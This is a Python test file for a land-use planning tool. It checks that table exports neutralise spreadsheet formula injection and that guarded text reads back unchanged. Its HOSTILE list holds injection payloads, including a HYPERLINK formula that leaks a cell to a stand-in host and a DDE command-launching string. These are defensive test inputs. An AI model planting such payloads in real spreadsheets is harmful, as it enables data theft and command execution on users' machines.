"""No text of a table acts as a formula in a spreadsheet, and every text comes back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from planconcord.cli.checks import main
from planconcord.engine.intake.generations import read_codes
from planconcord.engine.intake.labels import read_labels, write_labels
from planconcord.engine.rulesets.reading import read_ruleset
from planconcord.engine.store import write_table
from planconcord.engine.tables.formulas import for_workbook, guarded, unguarded
from shapely.geometry import box

HOSTILE = [
    '=HYPERLINK("http://x/?a="&A1;"xem")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "=1+1",
    "a;=1+1",
    "a,=1+1",
    "'=1",
    "＝1+1",
]
"""Codes that somebody may have written into a plan."""
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
texts = st.text(alphabet="=+-@'\t\r\n;, aĐ1\"＝", max_size=9)


def cells_of(path: Path, separators: str = ",;\t") -> list[str]:
    """All cells that any spreadsheet may see in a CSV, whatever it takes for the separator."""
    content = path.read_text(encoding="utf-8-sig")
    return [
        cell
        for separator in separators
        for row in csv.reader(content.splitlines(), delimiter=separator)
        for cell in row
    ]


@given(texts)
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert unguarded(for_workbook(text)) == text
    assert not guarded(text).startswith(DANGEROUS)


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("LUC", "Đất ở", "a-b", "1,5", "x = y", "", "'LUC'", "ONT+ODT"):
        assert guarded(text) == text == unguarded(text)


@pytest.fixture()
def plans(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Two plans whose codes are formulas; the arguments that name them."""
    monkeypatch.chdir(tmp_path)
    for name, codes in (("low", HOSTILE), ("up", [*HOSTILE[1:], "ODT"])):
        shapes = [box(500_000 + 100 * n, 2_300_000, 500_100 + 100 * n, 2_300_100) for n in range(len(codes))]
        gpd.GeoDataFrame({"ma": codes}, geometry=shapes, crs="EPSG:5899").to_file(f"{name}.gpkg", driver="GPKG")
    return ["low.gpkg", "up.gpkg"]


def test_no_table_of_the_command_line_holds_a_formula(plans: list[str], tmp_path: Path) -> None:
    low, up = plans
    two = ["--lower", low, "--lower-code", "ma", "--upper", up, "--upper-code", "ma"]
    main(["checkconformity", *two, "--findings", "f.gpkg", "--cross-table", "cross.csv"])
    drafts = ["--before", low, "--before-code", "ma", "--after", up, "--after-code", "ma"]
    main(["comparedrafts", *drafts, "--changes", "c.gpkg", "--transitions", "transitions.csv"])
    prepare = ["prepareplan", "--input", low, "--code-field", "ma", "--output", "p.gpkg"]
    main(
        [
            *prepare,
            "--labels",
            "labels.csv",
            "--codes",
            "codes.csv",
            "--report",
            "report.csv",
            "--code-generation",
            "tt27_2018",
        ]
    )
    for language, name in (("vi", "vi.csv"), ("en", "en.csv")):
        main(["createrules", *two, "--output", name, "--language", language])
    tables = sorted(path.name for path in tmp_path.glob("*.csv"))
    assert tables == ["codes.csv", "cross.csv", "en.csv", "labels.csv", "report.csv", "transitions.csv", "vi.csv"]
    for name in tables:
        assert not [cell for cell in cells_of(tmp_path / name) if cell.startswith(DANGEROUS)], name


@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
@pytest.mark.parametrize("language", ["vi", "en"])
def test_a_list_of_pairs_matches_the_codes_again_when_it_is_given_back(
    plans: list[str], tmp_path: Path, name: str, language: str
) -> None:
    low, up = plans
    two = ["--lower", low, "--lower-code", "ma", "--upper", up, "--upper-code", "ma"]
    assert main(["createrules", *two, "--output", name, "--language", language]) == 0
    rules = read_ruleset(name)
    for upper, lower in zip([*HOSTILE[1:], "ODT"], HOSTILE):
        assert rules.verdict(upper, lower).row, (upper, lower)
    if name.endswith("xlsx"):
        sheet = openpyxl.load_workbook(name)["verdicts"]
        assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None} <= {
            "s",
            "n",
        }


def test_a_label_map_matches_the_labels_again_when_it_is_given_back(tmp_path: Path) -> None:
    path = write_labels(tmp_path / "plan.labels.csv", pd.Series(HOSTILE), {})
    with open(path, encoding="utf-8-sig", newline="") as file:
        head, *rows = csv.reader(file)
    with open(path, "w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([head, *([label, f"C{n}", *more] for n, (label, _, *more) in enumerate(rows))])
    assert set(read_labels(path)) == {label.casefold() for label in HOSTILE}
    path.write_text("label,code\n =old way,LUC\n", encoding="utf-8")
    assert read_labels(path) == {"=old way": "LUC"}, "as lists of earlier versions kept formulas apart"


def test_a_reviewed_list_of_codes_is_read_without_its_guards(tmp_path: Path) -> None:
    path = tmp_path / "plan.codes.csv"
    path.write_text("code,successor\n'=SKX,SKS\n", encoding="utf-8")
    assert read_codes(path) == {"=skx": "SKS"}


def test_numbers_stay_numbers_and_what_is_not_known_is_blank(tmp_path: Path) -> None:
    write_table(tmp_path / "t.csv", pd.DataFrame({"a": [-1.5, float("nan")], "b": ["-1.5", None]}))
    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").split() == ["a,b", "-1.5,'-1.5", ","]
    whole = pd.DataFrame({"a": pd.array([10**17 + 1, None], dtype="Int64"), "b": [pd.NaT, pd.NA], "c": [True, 2]})
    write_table(tmp_path / "u.csv", whole)
    assert (tmp_path / "u.csv").read_text(encoding="utf-8-sig").split() == ["a,b,c", f"{10**17 + 1},,True", ",,2"]
